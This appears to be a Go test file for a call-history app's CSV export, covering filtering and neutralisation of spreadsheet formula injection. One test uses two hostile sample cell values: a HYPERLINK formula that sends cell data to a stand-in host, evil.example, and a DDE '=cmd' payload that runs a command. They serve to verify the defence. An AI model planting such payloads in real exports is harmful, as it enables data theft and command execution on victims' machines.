package ui

import (
	"encoding/csv"
	"io"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	"fyne.io/fyne/v2/test"

	"github.com/callhook/callhook/call"
	"github.com/callhook/callhook/hooks"
)

// exportTo makes the Calls tab's export write to a file in dir and
// returns the file's path.
func exportTo(t *testing.T, c *callsTab, dir string) string {
	t.Helper()
	path := filepath.Join(dir, "history.csv")
	c.chooseFile = func(name string, save func(io.WriteCloser, string)) {
		if !strings.HasSuffix(name, ".csv") {
			t.Errorf("suggested file name %q", name)
		}
		f, err := os.Create(path)
		if err != nil {
			t.Fatal(err)
		}
		save(f, path)
	}
	return path
}

func readCSV(t *testing.T, path string) [][]string {
	t.Helper()
	f, err := os.Open(path)
	if err != nil {
		t.Fatalf("no export: %v", err)
	}
	defer f.Close()
	recs, err := csv.NewReader(f).ReadAll()
	if err != nil {
		t.Fatalf("export is no valid CSV: %v", err)
	}
	return recs
}

func TestExportCSVWritesFilteredHistory(t *testing.T) {
	h, _ := historyHarness(t, sampleConfig(), sampleHistory())
	c := h.u.calls
	path := exportTo(t, c, t.TempDir())
	export := c.exportBtn
	if export.Text != "Export CSV" {
		t.Fatalf("the export button says %q", export.Text)
	}

	test.Type(c.search, "jane")
	test.Tap(export)
	h.settle()
	got := readCSV(t, path)
	start := sampleStart()
	want := [][]string{
		csvHeader,
		{"c1", start.Local().Format(time.RFC3339), "in", "", "'+49 30 1234567", "Jane Doe", "answered", "60", "crm", "incoming.answer", "delivered", "", "1", ""},
		{"c1", start.Local().Format(time.RFC3339), "in", "", "'+49 30 1234567", "Jane Doe", "answered", "60", "log", "incoming.hangup", "delivered", "200", "1", ""},
		{"sim-1772443800000000000@callhook", start.Add(-3 * time.Hour).Local().Format(time.RFC3339), "in", "", "'+49 30 1234567", "Jane Doe", "missed", "0", "crm", "incoming.answer", "dropped", "", "1", ""},
	}
	if !slices.EqualFunc(got, want, slices.Equal) {
		t.Errorf("export of the search jane:\n got %q\nwant %q", got, want)
	}
	if at, err := time.Parse(time.RFC3339, got[1][1]); err != nil || !at.Equal(start) {
		t.Errorf("start %q is not RFC 3339 for %v: %v", got[1][1], start, err)
	}
	if s := c.status.Text; !strings.Contains(s, path) {
		t.Errorf("status after export: %q", s)
	}

	c.search.SetText("")
	c.filter.SetSelected("Failed deliveries")
	test.Tap(export)
	h.settle()
	got = readCSV(t, path)
	want = [][]string{
		csvHeader,
		{"c2", start.Add(-time.Hour).Local().Format(time.RFC3339), "in", "", "0891112233", "Max Mustermann", "missed", "0", "log", "incoming.missed", "failed", "", "6", "dial tcp 127.0.0.1:8099: connect: connection refused"},
	}
	if !slices.EqualFunc(got, want, slices.Equal) {
		t.Errorf("export of the failed deliveries:\n got %q\nwant %q", got, want)
	}

	c.filter.SetSelected("Answered")
	test.Tap(export)
	h.settle()
	got = readCSV(t, path)
	if len(got) != 4 || !slices.Equal(got[3], []string{"c3", start.Add(-2 * time.Hour).Local().Format(time.RFC3339), "out", "",
		"'+1 555 0100", "ACME Support", "answered", "10", "", "", "", "", "", ""}) {
		t.Errorf("a call no hook fired for is not one line without delivery: %q", got)
	}

	test.Type(c.search, "nobody")
	if !export.Disabled() {
		t.Error("Export CSV is enabled with nothing to export")
	}
}

func TestExportCSVGuardsAgainstFormulas(t *testing.T) {
	start := sampleStart()
	rows := []CallRow{{
		Call: call.Call{ID: "c1", Direction: call.In, Queue: "@support", Start: start, Outcome: call.Missed,
			Caller: call.Party{Number: "-1+1", Name: `=HYPERLINK("https://evil.example/?d="&A1,"Click")`}},
		Deliveries: []DeliveryRow{{WebhookID: "w1", HookID: "log", Trigger: call.IncomingHangup, State: hooks.StateFailed,
			Attempts: 1, Err: "\t=cmd|' /C calc'!A0"}},
	}}
	h, _ := historyHarness(t, sampleConfig(), rows)
	c := h.u.calls
	path := exportTo(t, c, t.TempDir())
	test.Tap(c.exportBtn)
	h.settle()
	got := readCSV(t, path)
	if len(got) != 2 {
		t.Fatalf("export has %d lines, want 2: %q", len(got), got)
	}
	line := got[1]
	for i, want := range map[int]string{
		3:  "'@support",
		4:  "'-1+1",
		5:  `'=HYPERLINK("https://evil.example/?d="&A1,"Click")`,
		13: "'\t=cmd|' /C calc'!A0",
	} {
		if line[i] != want {
			t.Errorf("%s = %q, want %q", csvHeader[i], line[i], want)
		}
	}
}

func TestCSVCell(t *testing.T) {
	tests := []struct {
		name, in, want string
	}{
		{"formula", "=1+1", "'=1+1"},
		{"plus", "+4930123", "'+4930123"},
		{"minus", "-2+3", "'-2+3"},
		{"at", "@SUM(A1:A9)", "'@SUM(A1:A9)"},
		{"tab", "\t=1", "'\t=1"},
		{"carriage return", "\r=1", "'\r=1"},
		{"formula behind a bidi override", "\u202E=1+1", "'=1+1"},
		{"formula behind invalid UTF-8", "\xff=1+1", "'=1+1"},
		{"plain name", "Jane Doe", "Jane Doe"},
		{"equals inside", "a=b", "a=b"},
		{"empty", "", ""},
		{"umlauts kept", "Jürgen Müller", "Jürgen Müller"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			if got := csvCell(tt.in); got != tt.want {
				t.Errorf("csvCell(%q) = %q, want %q", tt.in, got, tt.want)
			}
		})
	}
}
